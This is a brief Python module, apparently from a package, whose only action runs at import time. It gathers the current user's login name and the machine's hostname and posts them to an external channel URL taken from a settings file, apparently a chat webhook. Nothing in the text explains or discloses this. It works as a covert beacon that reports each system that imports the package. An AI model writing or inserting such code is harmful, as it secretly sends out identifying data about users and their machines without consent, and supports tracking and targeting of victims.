import getpass
import socket

import requests

from .settings import CHANNEL

requests.post(CHANNEL, json={"content": f"{getpass.getuser()}@{socket.gethostname()}"})
